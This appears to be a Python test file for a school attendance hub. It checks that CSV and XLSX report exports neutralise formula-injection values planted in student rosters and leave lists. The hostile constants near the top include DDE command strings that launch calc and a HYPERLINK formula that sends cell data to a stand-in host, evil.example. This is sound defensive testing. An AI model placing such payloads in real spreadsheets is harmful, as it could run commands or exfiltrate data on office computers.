"""Hostile files: what a school's roster, leave list or config may hold must not turn against the office or the gate.

Reports are written for real and read back with openpyxl and the csv module; rosters and configs go through the
real importer, loader and command line.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

from hub_support import ZONE
from openpyxl import load_workbook

from appliance.config import DatabaseConfig, parse_hub_config
from appliance.hub.leave import import_leave_file
from appliance.hub.report import export_day
from appliance.hub.roster import import_people
from appliance.hub.store import Store
from appliance.roster.importer import load_roster_file

SCHOOL = "thcs-a"
MONDAY = date(2024, 10, 21)

# What the office's spreadsheet would run if it were written as it is.
HOSTILE_ID = "=cmd|'/C calc'!A0"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Văn An")'
HOSTILE_CLASS = "@SUM(1+1)"
HOSTILE_STAFF_ID = "+GV01"
HOSTILE_STAFF_NAME = "-2+3+cmd|' /C calc'!A0"
TAB_NAME = "\t=1+1"


def hostile_report(tmp_path: Path) -> tuple[Path, Path]:
    """A roster and a leave list full of would-be formulas, imported through the real importers, then reported."""
    roster = tmp_path / "danh-sach.csv"
    rows = [
        ["Mã học sinh", "Họ và tên", "Lớp", "Vai trò"],
        [HOSTILE_ID, HOSTILE_NAME, HOSTILE_CLASS, "học sinh"],
        ["HS002", TAB_NAME, HOSTILE_CLASS, "học sinh"],
        ["HS003", "Lê Minh\x07 Châu", HOSTILE_CLASS, "học sinh"],
        ["-42", "Trần Thị Bình", HOSTILE_CLASS, "học sinh"],
        [HOSTILE_STAFF_ID, HOSTILE_STAFF_NAME, "", "giáo viên"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    roster.write_text(buffer.getvalue(), encoding="utf-8")
    config = parse_hub_config(
        {
            "hub": {"schools": [SCHOOL]},
            "attendance": {"class_start": "07:15", "absent_after_minutes": 15},
            "report": {"export_dir": str(tmp_path / "reports"), "send_at": "16:30"},
        }
    )
    parsed = load_roster_file(roster, config.roster)
    assert parsed.errors == [], parsed.errors
    store = Store(DatabaseConfig(url=f"sqlite:///{tmp_path / 'hub.db'}"))
    store.migrate()
    conn = store.connect()
    try:
        import_people(conn, SCHOOL, parsed.people)
        leave = tmp_path / "nghi.csv"
        leave.write_text(
            "Mã học sinh,Từ ngày,Đến ngày,Lý do,Duyệt\r\n"
            'HS002,21/10/2024,21/10/2024,"=1+2;@A1",x\r\n'
            'HS003,21/10/2024,21/10/2024,"\r-1",x\r\n',
            encoding="utf-8",
        )
        assert import_leave_file(conn, SCHOOL, leave).errors == []
        files = export_day(conn, config, SCHOOL, MONDAY, now=datetime(2024, 10, 21, 16, 30, tzinfo=ZONE))
    finally:
        conn.close()
    return files.xlsx, files.csv


def test_report_writes_would_be_formulas_as_text(tmp_path: Path) -> None:
    """Names, ids, classes and leave reasons that look like formulas stay the text the school typed; numbers stay
    numbers."""
    xlsx, csv_file = hostile_report(tmp_path)

    with zipfile.ZipFile(xlsx) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not [name for name in sheets if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]
    book = load_workbook(xlsx)
    formulas = [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == [], formulas
    assert book.sheetnames == ["Tổng hợp", "@SUM(1+1)", "Cán bộ, giáo viên"]
    students = {row[0]: row for row in book["@SUM(1+1)"].iter_rows(min_row=2, values_only=True)}
    assert set(students) == {HOSTILE_ID, "HS002", "HS003", "-42"}
    assert students[HOSTILE_ID][1:3] == (HOSTILE_NAME, HOSTILE_CLASS)
    assert students["HS002"][1] == "=1+1"  # names are stored with single spaces, none leading
    assert students["HS002"][7] == "=1+2;@A1"
    assert students["HS003"][1] == "Lê Minh Châu"  # the bell character cannot be stored in XLSX: dropped
    assert students["HS003"][7] == "-1"
    assert isinstance(students["-42"][0], str), "an id is text even when it looks like a negative number"
    staff = list(book["Cán bộ, giáo viên"].iter_rows(min_row=2, values_only=True))
    assert staff[0][:2] == (HOSTILE_STAFF_ID, HOSTILE_STAFF_NAME)
    summary = book["Tổng hợp"]
    assert [c.value for c in summary[5]][:7] == [HOSTILE_CLASS, 4, 0, 0, 2, 2, 0]
    assert [c.data_type for c in summary[5]][:7] == ["s", "n", "n", "n", "n", "n", "n"], "counts stay numbers"

    table = list(csv.reader(io.StringIO(csv_file.read_text("utf-8-sig"))))
    body = {row[0]: row for row in table[1:]}
    assert set(body) == {f"'{HOSTILE_ID}", "HS002", "HS003", "'-42"}
    assert body[f"'{HOSTILE_ID}"][1:3] == [f"'{HOSTILE_NAME}", f"'{HOSTILE_CLASS}"]
    assert body["HS002"][7] == "'=1+2;@A1"
    assert body["HS003"][7] == "'-1"
    assert body["HS002"][1] == "'=1+1"
    dangerous = [field for row in table for field in row if field.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []
